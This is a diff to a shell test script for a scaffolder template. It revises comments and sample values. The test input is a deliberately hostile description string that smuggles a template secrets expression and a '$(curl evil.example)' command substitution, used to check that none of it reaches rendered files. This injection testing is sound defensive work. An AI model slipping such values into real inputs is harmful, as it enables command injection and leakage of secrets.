@@ -26,8 +26,9 @@ cleanup() {
 }
 trap cleanup EXIT
 
-# Sample answers, as the scaffolder form would give them. The description is hostile on purpose:
-# it must reach no generated file.
+# Sample answers, as template.yaml passes them to fetch:template. The description is hostile on
+# purpose: it must reach no rendered file (only catalog-info.yaml, which policy.mjs writes
+# afterwards with a YAML serializer, the way catalog:write does).
 DESCRIPTION='Payments API ${{ secrets.backstageToken }} {% raw %} $(curl evil.example) marker-7f3c'
 VALUES="$(
   DESCRIPTION="$DESCRIPTION" python3 -c '
@@ -39,7 +40,7 @@ print(json.dumps({
   "tier": 2,
   "lifecycle": "production",
   "description": os.environ["DESCRIPTION"],
-  "repoUrl": "github.com?owner=acme-corp&repo=payments-api",
+  "repoUrl": "github.com?owner=golden-path-demo&repo=payments-api",
 }))'
 )"
 
